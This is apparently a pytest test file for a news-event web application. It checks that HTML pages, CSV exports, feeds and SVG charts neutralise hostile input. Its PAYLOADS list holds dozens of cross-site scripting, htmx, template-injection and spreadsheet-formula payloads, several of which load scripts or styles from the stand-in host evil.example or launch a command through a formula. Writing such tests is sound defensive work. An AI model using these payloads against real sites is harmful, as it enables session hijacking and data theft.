"""A page of news can hold anything, and so can an address: none of it becomes a part of a page of ours."""

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
from pathlib import Path
from urllib.parse import quote, urlsplit

import pytest
from msgspec.structs import replace
from selectolax.lexbor import LexborHTMLParser
from tests.desk.browser import launched, served, visiting
from tests.desk.made import PAGE, ask, desk_over
from tests.store.made import coding, skipped

import detente
from detente.model import Because, Party, When, Where
from detente.store import Store
from detente.watch import State

RUN = "window.pwned=1"
PAYLOADS = [
    # elements
    f"<script>{RUN}</script>", f"<ScRiPt >{RUN}</sCrIpT >", "<script src=//evil.example/pwned.js></script>",
    f"<img src=x onerror={RUN}>", f"<img/src=x/onerror={RUN}>", "<iframe srcdoc='<script>parent.pwned=1</script>'>",
    "<iframe src=javascript:parent.pwned=1>", f"<object data=javascript:{RUN}>", "<embed src=//evil.example/pwned>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example/pwned>",
    f"<input autofocus onfocus={RUN}>", f"<details open ontoggle={RUN}>", f"<video><source onerror={RUN}></video>",
    "<form action=//evil.example/><button autofocus>pwned", f"<body onload={RUN}>", f"<marquee onstart={RUN}>",
    # out of an element
    f"</title><script>{RUN}</script>", f"</textarea><script>{RUN}</script>", f"</mark></article><script>{RUN}</script>",
    f"<!--<script>{RUN}</script>", f"--><script>{RUN}</script>", f"]]><script>{RUN}</script>",
    f"<![CDATA[<script>{RUN}</script>]]>", f"<?xml version='1.0'?><script>{RUN}</script>", "<!-- pwned",
    # out of an attribute
    f'"><script>{RUN}</script>', f"'><script>{RUN}</script>", f'" onmouseover="{RUN}', f"' autofocus onfocus='{RUN}",
    f"` onerror=`{RUN}", f"x onerror={RUN} ", f'" autofocus tabindex=1 onfocus="{RUN}" x="',
    # htmx
    '" hx-get="//evil.example/pwned" hx-trigger="load', f'" hx-on:load="{RUN}', f"<p hx-on::load={RUN}>",
    "<p hx-get=//evil.example/pwned hx-trigger=load>",
    f'<p data-hx-vals="js:{{a: {RUN}}}" hx-get=/live hx-trigger=load>',
    # addresses
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"\x01javascript:{RUN}", "//evil.example/pwned",
    "data:text/html,<script>parent.pwned=1</script>", f"vbscript:{RUN}", "/\\evil.example", "file:///etc/pwned",
    # drawings and formulas
    f"<svg onload={RUN}>", f"<svg><script>{RUN}</script></svg>", f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{RUN}><text>x</text></a></svg>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    # templates
    "{{7*191}}", "{% for x in range(9) %}pwned{% endfor %}", "{{config.__class__}}", "${7*191}",
    "<%= 7*191 %>", "#{7*191}",
    # JSON in a script
    f"</script><script>{RUN}</script>", f'\\"}};{RUN};//', f"\u2028{RUN}\u2029", f"</ScRiPt\n><script>{RUN}</script>",
    # letters that are not what they seem
    f"\u202e<script>{RUN}</script>\u202c", f"a\0<script>{RUN}</script>", f"<scr\0ipt>{RUN}</script>",
    f"＜script＞{RUN}＜/script＞", f"\ufeff<script>{RUN}</script>", f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    # escaped by half
    f"&lt;script&gt;{RUN}//&lt;/script&gt;", f"&#60;script>{RUN}&#60;/script>", f"<script&gt;{RUN}</script>",
    f"&amp;lt;img src=x onerror={RUN}&amp;gt;", f"&quot; onload=&quot;{RUN}", f"&#x3c;img src=x onerror={RUN}&#x3e;",
    # styles
    "<style>@import '//evil.example/pwned.css'</style>", "<link rel=stylesheet href=//evil.example/pwned.css>",
    '" style="background:url(//evil.example/pwned)', f"width:expression({RUN})", "}</style><style>*{display:none}",
    # spreadsheets
    "=cmd|' /C calc'!A0", "+1+1", "-1+cmd", "@SUM(1+1)", "\t=1+1", "\r=1+1", '=HYPERLINK("//evil.example/pwned")',
]  # fmt: skip


def party(payload):
    return Party(id=payload, name=payload, country=payload, code=payload, words=(0, len(payload)))


def news(number, payload):
    """An article in which each text that somebody else can choose is the payload, and so it is in its two reports."""
    day = f"2019-{1 + number // 28:02}-{1 + number % 28:02}"
    one, other, speaker = (party(PAYLOADS[(number + step) % len(PAYLOADS)]) for step in range(3))
    place = Where(
        name=payload, precision="city", country=payload, lat=number / 2, lon=number, radius=1, basis="stated",
        held_by=(payload,), claimed_by=(payload,), words=(0, len(payload)),
    )  # fmt: skip
    made = coding(
        payload, origin=f"{number} {payload}".replace("\0", ""), date=day, body=f"{payload} word{number} {payload}",
        reports=2, text=payload, type="CONSULT", mode=payload, cameo=payload, contexts=(payload,), source=(one,),
        target=(other,), reciprocal=False, speaker=speaker, place=place, time=When(start=day, end=day, basis="stated"),
        trigger=(0, len(payload)), because=(Because(payload, (0, len(payload))),),
    )  # fmt: skip
    article = replace(
        made.article, key=payload, publisher=payload, agency=payload if number % 2 else None,
        section=(payload, payload), authors=(payload,), place=payload,
        url=f"https://news.example/{payload}" if number % 3 else payload,
    )  # fmt: skip
    return replace(made, article=article)


@pytest.fixture(scope="module")
def path(tmp_path_factory):
    """A store whose every text is a payload, and so is its name."""
    folder = tmp_path_factory.mktemp("hostile") / f'"><img src=x onerror={RUN}> {{{{7*191}}}}'
    with Store(folder) as store:
        store.publish([news(number, payload) for number, payload in enumerate(PAYLOADS)], version="1")
        store.publish([skipped(origin=payload, reason=payload, record=payload) for payload in PAYLOADS], version="1")
        store.fuse()
        events = [row["id"] for row in store.sql("SELECT id FROM events ORDER BY id")]
        decisions = zip(PAYLOADS[::3], PAYLOADS[1::3], PAYLOADS[2::3], strict=False)
        for event, (value, why, who) in zip(events, decisions, strict=False):
            store.set_field(event, "mode", value, why=why, who=who)
        store.fuse()
        store.keep_searches({payload: payload for payload in PAYLOADS})
        with State(folder) as state, state.changing():
            for payload in PAYLOADS:
                state.add_feed(payload, title=payload, now=0, interval=60)
            for feed in state.feeds():
                state.write_feed(replace(feed, reason=feed.url, moved_from=feed.url, health="failing"))
    return folder


@pytest.fixture(scope="module")
def desk(path):
    return desk_over(path)


PLAIN = (
    "/", "/events", "/events?disputed=true", "/stories", "/relation", "/map?since=2019-01-01", "/live",
    "/live?before=60", "/network?since=2019-01-01", "/network?since=2019-01-01&level=actors", "/search?q=word1*",
    "/search", "/sql", "/corrections", "/api", "/turns", "/nothing",
)  # fmt: skip
"""Pages that show many texts at once."""
ROWS = quote("SELECT * EXCLUDE (tellings) FROM events LIMIT 40")


def addresses(path, step=1):
    """The pages of a store, and of each `step` of its articles, events, stories, actors and relations."""
    with Store(path) as store:
        nouns = {noun: [row["id"] for row in store.sql(f"SELECT id FROM {noun} ORDER BY id")]
                 for noun in ("articles", "events", "stories")}  # fmt: skip
    several = {"articles": "article", "events": "event", "stories": "story"}
    found = [*PLAIN, f"/sql?q={ROWS}"]
    found += [f"/{several[noun]}/{id}" for noun, ids in nouns.items() for id in ids[::step]]
    found += [f"/actor/{quote(payload, safe='')}?since=2019-01-01" for payload in PAYLOADS[::step]]
    found += [f"/relation/{quote(payload, safe='')}/*" for payload in PAYLOADS[::step]]
    return found


# -- Without a browser ------------------------------------------------------------------------------------------------


TEMPLATES = "".join(
    page.read_text(encoding="utf-8") for page in (Path(detente.__file__).parent / "desk" / "templates").glob("*.html")
)
TAGS = set(re.findall(r"<([a-z]\w*)", TEMPLATES))
ATTRIBUTES = set(re.findall(r"\s([a-z][\w-]*)=[\"']", TEMPLATES)) | {
    "required", "selected", "checked", "defer", "open", "disabled", "hidden",
}  # fmt: skip
MARKUP = re.compile("[<>\"'&]")
LINKS = ("href", "src", "action", "formaction", "hx-get", "hx-post", "hx-push-url", "data-world")
DATA = re.compile(r'<script type="application/json" id="\w+">(.*?)</script>', re.DOTALL)


def is_ours(address):
    return re.match(r"/(?![/\\])|#|data:,$|true$", address) is not None


def is_of_the_web(address):
    parts = urlsplit(address)
    return parts.scheme in ("http", "https") and bool(parts.hostname)


def faults_of(page):
    """What a page holds that no template of ours has, or that leads where it must not."""
    found = [f"a template is run: {mark}" for mark in ("1337", "class 'jinja2") if mark in page]
    for data in DATA.findall(page):
        json.loads(data)
        found += ["< in data"] if "<" in data else []
    bare = DATA.sub("", page)
    found += [f"not escaped: {one!r}" for one in PAYLOADS if MARKUP.search(one) and one in bare]
    for node in LexborHTMLParser(page).root.traverse():
        found += _faults_of_node(node)
    return found


def _faults_of_node(node):
    given = dict(node.attributes)
    yield from (f"<{node.tag}>" for _ in [0] if node.tag not in TAGS)
    yield from (f"<{node.tag} {name}>" for name in given.keys() - ATTRIBUTES)
    if node.tag == "script" and given.get("type") != "application/json":
        yield from () if given.get("src", "").startswith("/static/") and not node.text() else [f"script {given}"]
    for name in given.keys() & set(LINKS):
        address = given[name] or ""
        if not is_ours(address) and not (
            node.tag == "a" and is_of_the_web(address) and "noopener" in (given.get("rel") or "")
        ):
            yield f"<{node.tag} {name}={address!r}>"


def test_what_is_looked_for_would_be_found():
    for payload in PAYLOADS:
        assert bool(faults_of(f'<p title="{payload}">{payload}</p>')) == bool(MARKUP.search(payload)), payload


def test_no_text_of_a_store_becomes_a_part_of_a_page(path, desk):
    faults = {}
    for address in addresses(path, step=2):
        answer = ask(desk, address, headers=PAGE)
        if answer.status >= 500 or (found := faults_of(answer.text)):
            faults[address] = answer.status if answer.status >= 500 else found
    assert faults == {}


ASKED = [
    "/events?actor={}", "/events?actor={}&other={}", "/events?place={}", "/events?story={}", "/events?type={}",
    "/events?standing={}", "/events?since={}", "/events?after=2019-01-01.{}", "/events?outlets={}", "/events?{}",
    "/events?{}=1", "/events?cited={}", "/?cited={}", "/stories?actor={}&place={}", "/stories?until={}", "/map?type={}",
    "/map?since={}", "/network?actor={}&level=actors", "/network?level={}", "/search?q={}", "/search?q=word1*&order={}",
    "/search?q=outlet:{}+word1*", "/search?q=since:{}", "/live?before={}", "/relation?one={}&other={}",
    "/relation/NOR/TCD?scale={}", "/relation/NOR/TCD?by={}&type={}", "/relation/{}/{}?skip={}", "/relation/{}/*",
    "/event/{}", "/article/{}", "/story/{}", "/actor/{}", "/actor/{}?until={}", "/{}", "/nothing/{}", "/static/{}",
    "/sql?q=SELECT+'{}'", "/events.json?type={}", "/event/{}.json", "/changes.json?since={}", "/openapi.json?{}",
]  # fmt: skip
FEW = 3
"""Questions in SQL are answered by processes of their own, which takes a fifth of a second each."""


@pytest.mark.parametrize("number", range(len(ASKED)), ids=ASKED)
def test_no_part_of_an_address_becomes_a_part_of_a_page(desk, number):
    asked, faults = ASKED[number], {}
    for payload in PAYLOADS[number % 7 :: 7][: FEW if "/sql" in asked else None]:
        answer = ask(desk, asked.replace("{}", quote(payload, safe="")), headers=PAGE)
        if answer.one("content-type" if answer.body else "location").startswith("text/html"):
            if answer.status >= 500 or (found := faults_of(answer.text)):
                faults[payload] = answer.status, found
        else:
            assert answer.status < 500
            assert answer.all("content-type") in ([], ["application/json"])
    assert faults == {}


# -- Files ------------------------------------------------------------------------------------------------------------


def cells_of(answer):
    assert answer.status == 200
    return [cell for row in csv.reader(io.StringIO(answer.text, newline="")) for cell in row]


def is_run(cell):
    """Whether a spreadsheet would take it for a formula; a number may begin with a sign."""
    return cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not re.fullmatch(r"-?\d+(\.\d+)?(e-?\d+)?", cell)


@pytest.mark.parametrize("target", [
    "/events.csv?limit=10000",
    "/relation/+1+1/*/bins.csv",
    "/relation/-1+cmd/@SUM(1+1)/bins.csv?by=month",
    "/sql.csv?q=" + quote("SELECT * FROM events, articles WHERE events.report IS NOT NULL LIMIT 200"),
    "/sql.csv?q=" + quote("SELECT who, why, value FROM (SELECT why AS who, why, value FROM corrections)"),
    "/sql.csv?q=" + quote("SELECT origin, reason FROM ledger"),
    # names of columns are cells, too
    "/sql.csv?q=" + quote("""SELECT 1 AS "=1+1", 2 AS "@x", -1.5::DECIMAL(4, 2) AS "-x", '-' || 1 AS "\t=y" """),
], ids=lambda target: target[:20])  # fmt: skip
def test_no_cell_is_a_formula(desk, target):
    cells = cells_of(ask(desk, target))
    assert any(cell.startswith("'") for cell in cells)
    assert [cell for cell in cells if is_run(cell)] == []


def test_feeds_can_be_read_and_lead_to_the_web_alone(desk):
    feed = ET.fromstring(ask(desk, "/events.atom?limit=10000").body)
    assert len(feed.findall("{*}entry")) >= len(PAYLOADS)
    addresses = {link.get("href") for link in feed.iter("{http://www.w3.org/2005/Atom}link")}
    assert [address for address in addresses if not is_of_the_web(address)] == []


def test_places_can_be_read(desk):
    told = ask(desk, "/events.geojson?limit=10000").json()
    assert {feature["type"] for feature in told["features"]} == {"Feature"}
    assert len(told["features"]) >= len(PAYLOADS)


@pytest.mark.parametrize("payload", PAYLOADS[::6])
def test_a_chart_is_a_drawing_and_nothing_else(desk, payload):
    answer = ask(desk, f"/relation/{quote(payload, safe='')}/*/chart.svg")
    if answer.status != 200:
        assert answer.status in (400, 404, 422)
        return
    for node in ET.fromstring(answer.body).iter():
        assert node.tag.partition("}")[2] not in ("script", "foreignObject", "a", "image", "use", "style")
        assert not [name for name in node.attrib if name.startswith("on") or "href" in name]


# -- With a browser ---------------------------------------------------------------------------------------------------


def test_nothing_happens_in_a_browser(path):
    ran = []
    with served(path) as desk, launched() as browser, visiting(browser, desk, expects=("status of 4",)) as page:
        page.on("dialog", lambda dialog: (ran.append(f"dialog {dialog.message}"), dialog.dismiss()))
        for address in addresses(path, step=8):
            page.goto(address, wait_until="load")
            ran += [f"{address}: {what}" for what in page.evaluate(LOOK)]
    assert ran == []


LOOK = """() => {
  const found = "pwned" in window ? ["it ran"] : [];
  for (const element of document.querySelectorAll("*")) {
    for (const { name } of element.attributes) {
      if (name.startsWith("on") || name.startsWith("hx-on") || name.startsWith("data-hx")) found.push(name);
    }
  }
  return found;
}"""
